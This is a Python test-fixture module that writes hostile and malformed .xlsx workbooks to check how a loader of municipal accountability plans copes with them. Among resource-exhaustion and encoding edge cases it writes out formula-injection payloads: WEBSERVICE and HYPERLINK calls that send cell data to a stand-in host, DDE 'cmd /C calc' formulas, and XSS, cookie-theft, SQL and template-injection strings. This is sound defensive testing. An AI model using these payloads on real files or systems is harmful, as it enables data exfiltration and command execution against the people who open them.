"""Malicious and malformed plan workbooks, beyond the unreadable files of tests/unreadable_files.py.

    python -m bench.hostile_workbooks CARPETA

writes every workbook of :data:`HOSTILE` into CARPETA (``<name>.xlsx``, or ``.xlsm``). Each entry
says what the loader must do with it (:class:`Hostile.expect`): ``"plan"`` (a usable plan,
perhaps with warnings), ``"rechazo"`` (a refusal whose errors say why, in Spanish) or
``"cualquiera"`` (either, as long as it is one of the two). ``tests/test_hostile.py`` reads each
one in a child process with a time and memory limit.

The workbooks are written as raw Office Open XML (not through openpyxl), so they can hold what
Excel never writes: 200,000 rows, a declared dimension of the whole sheet, formulas without
cached values, broken references … They are built in memory; the big ones take about a second.
"""

from __future__ import annotations

import io
import sys
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from xml.sax.saxutils import escape

from rendicion.reading.workbook import column_letter

# --------------------------------------------------------------------------------------------
# A minimal .xlsx writer

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_NS_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_EXCEL_EPOCH = date(1899, 12, 30)

#: Style indices of :data:`STYLES`: 0 default, 1 date (dd/mm/yyyy), 2 solid blue fill, 3 percent.
DATE, FILL, PERCENT = 1, 2, 3
STYLES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    f'<styleSheet {_NS}>'
    '<numFmts count="1"><numFmt numFmtId="164" formatCode="dd/mm/yyyy"/></numFmts>'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="3"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill>'
    '<fill><patternFill patternType="solid"><fgColor rgb="FF9DC3E6"/><bgColor indexed="64"/></patternFill></fill>'
    '</fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="4"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '<xf numFmtId="0" fontId="0" fillId="2" borderId="0" xfId="0" applyFill="1"/>'
    '<xf numFmtId="9" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    '</styleSheet>'
)


def cell(row: int, col: int, value: object, style: int | None = None) -> str:
    """One ``<c>`` element (1-based row, 0-based column). Text is inline; dates are serials with a date style."""
    ref = f"{column_letter(col)}{row}"
    s = f' s="{style}"' if style is not None else ""
    if value is None:
        return f'<c r="{ref}"{s}/>'
    if isinstance(value, Formula):
        cached = f"<v>{escape(value.cached)}</v>" if value.cached is not None else ""
        return f'<c r="{ref}"{s}{value.type_attr}><f>{escape(value.formula)}</f>{cached}</c>'
    if isinstance(value, Raw):
        return value.xml.replace("{ref}", ref)
    if isinstance(value, bool):
        return f'<c r="{ref}"{s} t="b"><v>{int(value)}</v></c>'
    if isinstance(value, date):
        serial = (value - _EXCEL_EPOCH).days
        if value <= date(1900, 2, 28):
            serial -= 1  # Excel's 1900 leap-year bug: serials before 1 March 1900 are one less
        return f'<c r="{ref}" s="{style if style is not None else DATE}"><v>{serial}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"{s}><v>{value!r}</v></c>'
    return f'<c r="{ref}"{s} t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


@dataclass(frozen=True)
class Formula:
    """A formula cell; ``cached=None`` means no cached value (what a generator that never calculates writes)."""

    formula: str
    cached: str | None = None
    type_attr: str = ""


@dataclass(frozen=True)
class Raw:
    """A cell written as given (``{ref}`` is replaced by the cell reference)."""

    xml: str


def rows_xml(rows: Iterable[list], first_row: int = 1, styles: dict[tuple[int, int], int] | None = None) -> str:
    """``<row>`` elements for ``rows`` (lists of values; None cells are skipped)."""
    styles = styles or {}
    out = []
    for r, values in enumerate(rows, start=first_row):
        cells = "".join(cell(r, c, v, styles.get((r, c))) for c, v in enumerate(values)
                        if v is not None or (r, c) in styles)
        out.append(f'<row r="{r}">{cells}</row>')
    return "".join(out)


def sheet_xml(body: str, *, dimension: str | None = None, merges: Iterable[str] = (), extra: str = "") -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    merges = list(merges)
    merged = (f'<mergeCells count="{len(merges)}">' + "".join(f'<mergeCell ref="{m}"/>' for m in merges)
              + "</mergeCells>") if merges else ""
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet {_NS} {_NS_R}>{dim}'
            f"<sheetData>{body}</sheetData>{merged}{extra}</worksheet>")


@dataclass
class SheetSpec:
    name: str
    xml: str | bytes
    state: str = "visible"
    rels: str | None = None  # the sheet's own relationships part, if any


def xlsx(sheets: list[SheetSpec], *, shared_strings: str | bytes | None = None, styles: str | bytes | None = STYLES,
         extra: dict[str, bytes | str] | None = None, extra_types: str = "", macros: bool = False,
         workbook_extra: str = "") -> bytes:
    """A workbook zip from raw parts."""
    main_type = ("application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macros else
                 "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    overrides = [f'<Override PartName="/xl/workbook.xml" ContentType="{main_type}"/>']
    rels = []
    entries = []
    for i, sheet in enumerate(sheets, start=1):
        overrides.append(f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
                         'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
        rels.append(f'<Relationship Id="rId{i}" Type="{_REL}/worksheet" Target="worksheets/sheet{i}.xml"/>')
        state = f' state="{sheet.state}"' if sheet.state != "visible" else ""
        entries.append(f'<sheet name="{escape(sheet.name, {chr(34): "&quot;"})}" sheetId="{i}"{state} r:id="rId{i}"/>')
    n = len(sheets)
    if styles is not None:
        overrides.append('<Override PartName="/xl/styles.xml" '
                         'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>')
        rels.append(f'<Relationship Id="rId{n + 1}" Type="{_REL}/styles" Target="styles.xml"/>')
    if shared_strings is not None:
        overrides.append('<Override PartName="/xl/sharedStrings.xml" '
                         'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
        rels.append(f'<Relationship Id="rId{n + 2}" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>')
    if macros:
        overrides.append('<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>')
        rels.append(f'<Relationship Id="rId{n + 3}" Type="http://schemas.microsoft.com/office/2006/relationships/'
                    f'vbaProject" Target="vbaProject.bin"/>')
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="png" ContentType="image/png"/>'
            f'{"".join(overrides)}{extra_types}</Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook {_NS} {_NS_R}>'
            f'<sheets>{"".join(entries)}</sheets>{workbook_extra}</workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{"".join(rels)}'
            '</Relationships>'
        ),
    }
    for i, sheet in enumerate(sheets, start=1):
        parts[f"xl/worksheets/sheet{i}.xml"] = sheet.xml
        if sheet.rels:
            parts[f"xl/worksheets/_rels/sheet{i}.xml.rels"] = sheet.rels
    if styles is not None:
        parts["xl/styles.xml"] = styles
    if shared_strings is not None:
        parts["xl/sharedStrings.xml"] = shared_strings
    if macros:
        parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # an OLE header, nothing more
    parts.update(extra or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
        for name, content in parts.items():
            archive.writestr(name, content.encode("utf-8") if isinstance(content, str) else content)
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------
# A small, valid plan to build on

PLAN_HEADERS = ["SUBCOMPONENTE", "ID", "ACTIVIDADES", "META DE PRODUCTO - INDICADOR", "RESPONSABLE"]
MONTHS = [f"MES {m}" for m in range(1, 14)]
SEGUIMIENTO_HEADERS = ["ID", "ACTIVIDAD", "FECHA DE CORTE", "% DE AVANCE", "ESTADO", "EVIDENCIA", "OBSERVACIONES"]
SUBCOMPONENTES = ["Información", "Diálogo", "Incentivos", "Evaluación y seguimiento"]
OFICINAS = ["Secretaría de Planeación", "Secretaría de Gobierno", "Oficina de Control Interno",
            "Dirección de Comunicaciones y Relaciones Públicas"]


@dataclass
class PlanRows:
    """A plan of ``n`` activities with the schedule beside it (one sheet) and a follow-up sheet."""

    n: int = 8
    ident: Callable[[int], object] = lambda k: f"{k % 4 + 1}.{k // 4 + 1}"
    text: Callable[[int], object] = lambda k: f"Publicar el informe número {k + 1} en el sitio web"
    office: Callable[[int], object] = lambda k: OFICINAS[k % len(OFICINAS)]
    months: Callable[[int], list[int]] = lambda k: [k % 13 + 1, (k + 5) % 13 + 1]
    reports: Callable[[int], list[tuple]] = lambda k: [(date(2018, 4, 30), 0.3), (date(2018, 8, 31), 0.6)]
    extra_rows: list[list] = field(default_factory=list)

    def plan_sheet(self, name: str = "Plan", **kwargs) -> SheetSpec:
        rows = [["PLAN DE ACCIÓN RENDICIÓN DE CUENTAS – VIGENCIA 2018"], [], PLAN_HEADERS + MONTHS]
        order = sorted(range(self.n), key=lambda k: k % 4)
        for k in order:
            months = set(self.months(k))
            rows.append([SUBCOMPONENTES[k % 4], self.ident(k), self.text(k), "Un informe publicado", self.office(k),
                         *["X" if m in months else None for m in range(1, 14)]])
        rows += self.extra_rows
        return SheetSpec(name, sheet_xml(rows_xml(rows), **kwargs))

    def follow_up_sheet(self, name: str = "Seguimiento") -> SheetSpec:
        rows = [SEGUIMIENTO_HEADERS]
        for k in range(self.n):
            for corte, avance in self.reports(k):
                rows.append([self.ident(k), self.text(k), corte, avance, "En ejecución", "Actas", ""])
        styles = {(r, 3): PERCENT for r in range(2, len(rows) + 1)}
        return SheetSpec(name, sheet_xml(rows_xml(rows, styles=styles)))

    def parameters_sheet(self, values: dict[str, object] | None = None) -> SheetSpec:
        values = {"Entidad": "Municipio de Prueba", "Vigencia": 2018, "Mes 1 (mes calendario)": date(2018, 1, 1),
                  "Meses del cronograma": 13, **(values or {})}
        rows = [["Parámetro", "Valor"], *[[k, v] for k, v in values.items()]]
        return SheetSpec("Parámetros", sheet_xml(rows_xml(rows)))

    def workbook(self, **kwargs) -> bytes:
        return xlsx([self.plan_sheet(), self.follow_up_sheet(), self.parameters_sheet()], **kwargs)


# --------------------------------------------------------------------------------------------
# The hostile workbooks


@dataclass(frozen=True)
class Hostile:
    name: str
    description: str  # Spanish: what the file holds
    expect: str  # "plan", "rechazo" or "cualquiera"
    build: Callable[[], bytes]
    suffix: str = ".xlsx"


def _rows_200000() -> bytes:
    # 200,000 activity rows: more than the 60,000 rows a sheet may have.
    body = [rows_xml([PLAN_HEADERS])]
    body += [f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>Diálogo</t></is></c>'
             f'<c r="C{r}" t="inlineStr"><is><t>Actividad {r}</t></is></c>'
             f'<c r="E{r}" t="inlineStr"><is><t>Secretaría de Gobierno</t></is></c></row>'
             for r in range(2, 200_002)]
    return xlsx([SheetSpec("Plan", sheet_xml("".join(body)))])


def _columns_5000() -> bytes:
    plan = PlanRows()
    header = PLAN_HEADERS + MONTHS + [f"Columna auxiliar {k}" for k in range(5000 - 18)]
    rows = [header] + [[SUBCOMPONENTES[k % 4], f"{k % 4 + 1}.{k // 4 + 1}", plan.text(k), "Meta", OFICINAS[k % 4],
                        "X", *([None] * 12), *[k * 5000 + c for c in range(5000 - 18)]] for k in range(8)]
    return xlsx([SheetSpec("Plan", sheet_xml(rows_xml(rows)))])


def _cell_1mb() -> bytes:
    import random

    rng = random.Random(1)
    words = ["informe", "gestión", "audiencia", "ciudadanía", "diálogo", "comuna", "publicar", "rendición", "datos"]
    huge = " ".join(f"{rng.choice(words)}{rng.randrange(10**6)}" for _ in range(75_000))[:1_048_576]
    plan = PlanRows(text=lambda k: huge if k == 0 else f"Publicar el informe número {k + 1} del plan")
    return plan.workbook()


def _formulas_without_values() -> bytes:
    # Every data cell is a formula without a cached value (a generator that never calculates).
    plan = PlanRows(ident=lambda k: Formula(f'"{k % 4 + 1}."&"{k // 4 + 1}"'),
                    text=lambda k: Formula(f'CONCATENATE("Actividad ","{k}")'),
                    office=lambda k: Formula('"Secretaría de Planeación"'))
    return xlsx([plan.plan_sheet()])


def _hidden_plan() -> bytes:
    plan = PlanRows()
    hidden = plan.plan_sheet("Datos")
    hidden.state = "hidden"
    return xlsx([SheetSpec("Portada", sheet_xml(rows_xml([["Plan de acción"], ["Vea la hoja siguiente"]]))), hidden])


def _very_hidden_follow_up() -> bytes:
    plan = PlanRows()
    follow_up = plan.follow_up_sheet()
    follow_up.state = "veryHidden"
    return xlsx([plan.plan_sheet(), follow_up])


_PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                     "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")


def _images() -> bytes:
    plan = PlanRows()
    sheet = plan.plan_sheet()
    sheet.xml = sheet.xml.replace("</worksheet>", '<drawing r:id="rId1"/></worksheet>')
    sheet.rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                  'drawing" Target="../drawings/drawing1.xml"/></Relationships>')
    drawing = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
               'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
               'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
               + "".join(
                   f'<xdr:oneCellAnchor><xdr:from><xdr:col>{k}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>{k}</xdr:row>'
                   '<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="952500" cy="952500"/><xdr:pic><xdr:nvPicPr>'
                   f'<xdr:cNvPr id="{k + 1}" name="Imagen {k + 1}"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill>'
                   f'<a:blip r:embed="rId{k + 1}"/></xdr:blipFill><xdr:spPr/></xdr:pic><xdr:clientData/>'
                   '</xdr:oneCellAnchor>' for k in range(20))
               + "</xdr:wsDr>")
    drawing_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    + "".join(f'<Relationship Id="rId{k + 1}" Type="http://schemas.openxmlformats.org/officeDocument/'
                              f'2006/relationships/image" Target="../media/image{k + 1}.png"/>' for k in range(20))
                    + "</Relationships>")
    extra = {"xl/drawings/drawing1.xml": drawing, "xl/drawings/_rels/drawing1.xml.rels": drawing_rels,
             **{f"xl/media/image{k + 1}.png": _PNG + bytes(k * 10_000) for k in range(20)}}
    types = ('<Override PartName="/xl/drawings/drawing1.xml" '
             'ContentType="application/vnd.openxmlformats-officedocument.drawing+xml"/>')
    return xlsx([sheet, plan.follow_up_sheet()], extra=extra, extra_types=types)


def _xlsm_macros() -> bytes:
    return PlanRows().workbook(macros=True)


def _outward_formulas() -> bytes:
    # Formulas that reach outside the workbook when Excel opens it (each with a cached value, the
    # evidence of the first four follow-up rows), and an external link part to a network share.
    outward = [Formula('_xlfn.WEBSERVICE("http://ejemplo.invalid/robo?d="&A1)', "Actas", ' t="str"'),
               Formula('FILTERXML(_xlfn.WEBSERVICE("http://ejemplo.invalid/x"),"//a")', "Actas", ' t="str"'),
               Formula("cmd|' /C calc'!A0", "Actas", ' t="str"'),
               Formula("[1]Hoja1!A1", "Actas", ' t="str"')]
    plan = PlanRows(n=8)
    rows = [SEGUIMIENTO_HEADERS]
    for k in range(plan.n):
        for corte, avance in plan.reports(k):
            evidence = outward[len(rows) - 1] if len(rows) <= len(outward) else "Actas"
            rows.append([plan.ident(k), plan.text(k), corte, avance, "En ejecución", evidence, ""])
    follow_up = SheetSpec("Seguimiento", sheet_xml(rows_xml(rows, styles={(r, 3): PERCENT for r in range(2, len(rows) + 1)})))
    link = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink {_NS} {_NS_R}>'
            '<externalBook r:id="rId1"><sheetNames><sheetName val="Hoja1"/></sheetNames></externalBook>'
            '</externalLink>')
    link_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 f'<Relationship Id="rId1" Type="{_REL}/externalLinkPath" '
                 'Target="file://servidor/compartido/metas.xlsx" TargetMode="External"/></Relationships>')
    return xlsx([plan.plan_sheet(), follow_up, plan.parameters_sheet()],
                extra={"xl/externalLinks/externalLink1.xml": link,
                       "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})


def _nul_escaped() -> bytes:
    # Excel writes control characters as _xHHHH_ escapes; NUL, BEL, ESC and DEL in names and IDs.
    plan = PlanRows(ident=lambda k: f"{k % 4 + 1}.{k // 4 + 1}_x0000_",
                    office=lambda k: "Secretaría_x0007_ de _x001B_Gobierno_x0000_",
                    text=lambda k: f"Actividad_x0000_ {k} con _x0008_retroceso y _x007F_ borrado")
    return plan.workbook()


def _nul_raw() -> bytes:
    # Raw NUL and control bytes inside the XML (not allowed in XML 1.0).
    plan = PlanRows(text=lambda k: Raw('<c r="{ref}" t="inlineStr"><is><t>Actividad \x00\x01\x1f fin</t></is></c>'))
    return plan.workbook()


def _bidi_override() -> bytes:
    # Right-to-left override in office names and IDs: «Secretaría» shown reversed, IDs that look alike.
    plan = PlanRows(ident=lambda k: f"\u202e{k % 4 + 1}.{k // 4 + 1}\u202c",
                    office=lambda k: "\u202eaenaelP ed aíraterceS\u202c - \u2066Oficina de Control Interno\u2069")
    return plan.workbook()


def _confusables() -> bytes:
    # Cyrillic look-alikes (е, а, о, с, р) in office names and IDs: «Sеcretaría» is not «Secretaría».
    plan = PlanRows(ident=lambda k: f"{k % 4 + 1}.{k // 4 + 1}" if k % 2 else f"{k % 4 + 1}.{k // 4 + 1}\u0430",
                    office=lambda k: ["Sеcrеtaría dе Planeación", "Secretaría de Planeación",
                                      "Оficina de Соntrol Interno", "Oficina de Control Interno"][k % 4])
    return plan.workbook()


def _injection_strings() -> bytes:
    injections = ['=HYPERLINK("http://ejemplo.invalid/robo?d="&A1,"Ver evidencia")', "@SUM(1+1)*cmd|' /C calc'!A0",
                  "+1", "-1+1", "<script>alert('hola')</script>", "=1+1", "<img src=x onerror=alert(1)>",
                  "{{7*7}}", "'; DROP TABLE versions; --", "javascript:alert(1)"]
    plan = PlanRows(text=lambda k: injections[k % len(injections)],
                    office=lambda k: injections[(k + 3) % len(injections)] + " - Secretaría de Gobierno",
                    ident=lambda k: ["=2+3", "@A1", "+7", "-1+1", "<b>1</b>", "1.1", "2.2", "3.3"][k % 8])
    sheet = plan.follow_up_sheet()
    sheet.xml = sheet.xml.replace("Actas", "javascript:alert(document.cookie)")
    return xlsx([plan.plan_sheet(), sheet, plan.parameters_sheet({"Entidad": "=HYPERLINK(\"http://x.invalid\")"})])


def _extreme_dates() -> bytes:
    plan = PlanRows(reports=lambda k: [(date(1900, 1, 1), 0.1), (date(1900, 2, 28), 0.2), (date(9999, 12, 31), 0.5),
                                       (Raw('<c r="{ref}" s="1"><v>60</v></c>'), 0.3)])  # 29/02/1900, which never was
    return plan.workbook()


def _extreme_period() -> bytes:
    # MES 1 in December 9999 and 60 months: the period runs past the last date Python (and Excel) know.
    plan = PlanRows()
    return xlsx([plan.plan_sheet(), plan.follow_up_sheet(),
                 plan.parameters_sheet({"Vigencia": 2100, "Mes 1 (mes calendario)": date(9999, 12, 1),
                                        "Meses del cronograma": 60})])


def _year_zero() -> bytes:
    # «VIGENCIA 0000» in the title and «enero 0000» as MES 1: years no calendar has.
    plan = PlanRows()
    sheet = plan.plan_sheet()
    sheet.xml = sheet.xml.replace("VIGENCIA 2018", "VIGENCIA 0000")
    parameters = plan.parameters_sheet({"Vigencia": "0000", "Mes 1 (mes calendario)": "enero 0000"})
    return xlsx([sheet, plan.follow_up_sheet(), parameters])


def _title_year_9999() -> bytes:
    # «VIGENCIA 9999» in the title and no parameters sheet: 13 months from January 9999 end in 10000.
    plan = PlanRows()
    sheet = plan.plan_sheet()
    sheet.xml = sheet.xml.replace("VIGENCIA 2018", "VIGENCIA 9999")
    return xlsx([sheet])


def _unknown_offices() -> bytes:
    names = ["Gerencia de Asuntos Lunares", "Unidad Especial de Nubes", "Despacho del Oráculo", "Comité Zeta"]
    return PlanRows(office=lambda k: names[k % 4] + " con apoyo de " + names[(k + 1) % 4]).workbook()


def _offices_10000() -> bytes:
    plan = PlanRows(n=10_000, office=lambda k: f"Dependencia número {k} de la alcaldía",
                    months=lambda k: [k % 13 + 1], reports=lambda k: [])
    return xlsx([plan.plan_sheet()])


def _long_sheet_names() -> bytes:
    plan = PlanRows()
    return xlsx([plan.plan_sheet("Plan " + "x" * 250), plan.follow_up_sheet("S" * 255)])


def _case_duplicate_sheets() -> bytes:
    plan = PlanRows()
    other = PlanRows(ident=lambda k: f"{k % 4 + 1}.{k // 4 + 1}", text=lambda k: f"Otra actividad {k}")
    return xlsx([plan.plan_sheet("Plan"), other.plan_sheet("PLAN"), plan.follow_up_sheet("seguimiento"),
                 plan.follow_up_sheet("SEGUIMIENTO")])


def _huge_dimension() -> bytes:
    plan = PlanRows()
    empty = SheetSpec("Vacía", sheet_xml("", dimension="A1:XFD1048576"))
    lying = plan.plan_sheet("Plan", dimension="A1:XFD1048576")
    return xlsx([empty, lying, plan.follow_up_sheet()])


def _shared_string_references() -> bytes:
    # One shared string referenced by 1,000,000 cells (a compact «bomb» of references).
    shared = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              f'<sst {_NS} count="1000000" uniqueCount="1"><si><t>X</t></si></sst>')
    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{column_letter(c)}{r}" t="s"><v>0</v></c>' for c in range(100))
                   + "</row>" for r in range(1, 10_001))
    plan = PlanRows()
    return xlsx([plan.plan_sheet(), SheetSpec("Marcas", sheet_xml(rows))], shared_strings=shared)


def _deep_xml() -> bytes:
    import random

    rng = random.Random(2)
    names = ["".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(8)) for _ in range(50_000)]
    nested = "".join(f"<{n}>" for n in names) + "<t>hondo</t>" + "".join(f"</{n}>" for n in reversed(names))
    plan = PlanRows(text=lambda k: Raw('<c r="{ref}" t="inlineStr"><is>' + nested + "</is></c>") if k == 0
                    else f"Actividad {k}")
    return xlsx([plan.plan_sheet(), plan.follow_up_sheet()])


def _sheets_1000() -> bytes:
    plan = PlanRows()
    filler = [SheetSpec(f"Hoja {k}", sheet_xml(rows_xml([[f"Nota {k}", k]]))) for k in range(997)]
    return xlsx([plan.plan_sheet(), plan.follow_up_sheet(), plan.parameters_sheet(), *filler])


def _merged_whole_sheet() -> bytes:
    plan = PlanRows()
    return xlsx([plan.plan_sheet(merges=["A1:XFD1048576"]), plan.follow_up_sheet()])


def _merged_shaded_schedule() -> bytes:
    # A shaded month cell whose merged range runs to the end of the sheet (months marked only by shading).
    plan = PlanRows(months=lambda k: [])
    sheet = plan.plan_sheet(merges=["F4:XFD1048576"])
    sheet.xml = sheet.xml.replace('<row r="4">', '<row r="4"><c r="F4" s="2"/>', 1)
    return xlsx([sheet, plan.follow_up_sheet()])


def _style_out_of_range() -> bytes:
    # Month cells shaded with a style index the style sheet does not have, next to real shading.
    plan = PlanRows(months=lambda k: [])
    sheet = plan.plan_sheet()
    sheet.xml = sheet.xml.replace('<row r="4">', '<row r="4"><c r="F4" s="99999"/><c r="G4" s="2"/>', 1)
    return xlsx([sheet, plan.follow_up_sheet()])


def _broken_styles() -> bytes:
    plan = PlanRows(months=lambda k: [])
    sheet = plan.plan_sheet()
    sheet.xml = sheet.xml.replace('<row r="4">', '<row r="4"><c r="F4" s="2"/>', 1)
    return xlsx([sheet, plan.follow_up_sheet()], styles=STYLES.replace("</cellXfs>", "</cellXfs><patternFill solid"))


def _bad_references() -> bytes:
    # Rows numbered 0 and 2,000,000, a cell reference past column XFD.
    rows = rows_xml([PLAN_HEADERS]) + (
        '<row r="0"><c r="A0" t="inlineStr"><is><t>Diálogo</t></is></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>Diálogo</t></is></c><c r="C2" t="inlineStr"><is><t>Actividad</t>'
        '</is></c><c r="ZZZZ2" t="inlineStr"><is><t>lejos</t></is></c></row>'
        '<row r="2000000"><c r="C2000000" t="inlineStr"><is><t>Actividad final</t></is></c></row>')
    return xlsx([SheetSpec("Plan", sheet_xml(rows))])


def _shared_string_index_out_of_range() -> bytes:
    shared = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              f'<sst {_NS} count="1" uniqueCount="1"><si><t>Diálogo</t></si></sst>')
    plan = PlanRows(text=lambda k: Raw('<c r="{ref}" t="s"><v>999999</v></c>') if k < 2 else f"Actividad {k}")
    return xlsx([plan.plan_sheet(), plan.follow_up_sheet()], shared_strings=shared)


def _error_cells() -> bytes:
    errors = ["#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!"]
    plan = PlanRows(reports=lambda k: [(Raw(f'<c r="{{ref}}" t="e"><v>{errors[k % 7]}</v></c>'),
                                        Raw(f'<c r="{{ref}}" t="e"><v>{errors[(k + 1) % 7]}</v></c>'))])
    return plan.workbook()


def _huge_numbers() -> bytes:
    plan = PlanRows(reports=lambda k: [(date(2018, 4, 30), [1e308, -1e308, 1e-320, 12345678901234567890][k % 4])],
                    ident=lambda k: [1e308, 2.5, -0.0, 10 ** 20, "1.1", "1.2", "1.3", "1.4"][k])
    return plan.workbook()


def _booleans_everywhere() -> bytes:
    plan = PlanRows(ident=lambda k: bool(k % 2) if k < 2 else f"{k % 4 + 1}.{k // 4 + 1}",
                    reports=lambda k: [(date(2018, 4, 30), True), (True, 0.5)])
    return plan.workbook()


def _odd_date_texts() -> bytes:
    texts = ["31/02/2018", "00/00/0000", "2018-13-45", "mañana", "30 de febrero de 2018", "1/1/1", "99999999"]
    plan = PlanRows(reports=lambda k: [(texts[k % len(texts)], "50 %")])
    return plan.workbook()


def _header_storm() -> bytes:
    # The header row repeated 20,000 times (page breaks gone wild) with one activity between each.
    rows = []
    for k in range(20_000):
        rows.append(PLAN_HEADERS)
        rows.append([SUBCOMPONENTES[k % 4], f"{k % 4 + 1}.{k // 4 + 1}", f"Publicar el informe número {k}",
                     "Un informe publicado", OFICINAS[k % 4]])
    return xlsx([SheetSpec("Plan", sheet_xml(rows_xml(rows)))])


def _duplicate_ids_massive() -> bytes:
    return xlsx([PlanRows(n=10_000, ident=lambda k: "1", reports=lambda k: []).plan_sheet()])


def _unmatched_follow_up() -> bytes:
    # 2,000 activities and 20,000 follow-up rows naming activities by texts that match none of them.
    plan = PlanRows(n=2000, text=lambda k: f"Publicar el informe de gestión número {k} en la página web institucional",
                    reports=lambda k: [])
    rows = [SEGUIMIENTO_HEADERS] + [
        [None, f"Realizar la jornada de diálogo ciudadano {k} con las juntas de acción comunal", date(2018, 4, 30),
         0.5, "", "", ""] for k in range(20_000)]
    return xlsx([plan.plan_sheet(), SheetSpec("Seguimiento", sheet_xml(rows_xml(rows)))])


def _numbers_60000_by_120() -> bytes:
    # Issue 11: 6 MB, 60,000 rows × 120 numeric cells (7.2 million cells), within the size limits.
    import random

    rng = random.Random(6)
    values = [f"<c><v>{v}</v></c>" for v in range(12)]
    pool = ["<row>" + "".join(rng.choices(values, k=120)) + "</row>" for _ in range(2000)]
    return xlsx([SheetSpec("Plan", sheet_xml("".join(rng.choices(pool, k=60_000))))])


def _activities_60000() -> bytes:
    # Issue 11: 9 MB, 60,000 activities with their schedule (thirty times the largest real plan).
    import random

    rng = random.Random(9)
    words = ["".join(rng.choices("abcdefghijklmnopqrstuvwxyzáéíóúñ", k=rng.randrange(3, 11))) for _ in range(20_000)]
    texts = [" ".join(rng.choices(words, k=rng.randrange(16, 30))).capitalize() for _ in range(60_000)]
    plan = PlanRows(n=60_000, text=texts.__getitem__, reports=lambda k: [])
    return xlsx([plan.plan_sheet()])


def _largest_real_plan() -> bytes:
    # A department's 2,000 activities and three years of follow-up (nine PAAC cuts): must be read.
    cuts = [date(year, month, day) for year in (2018, 2019, 2020) for month, day in ((4, 30), (8, 31), (12, 31))]
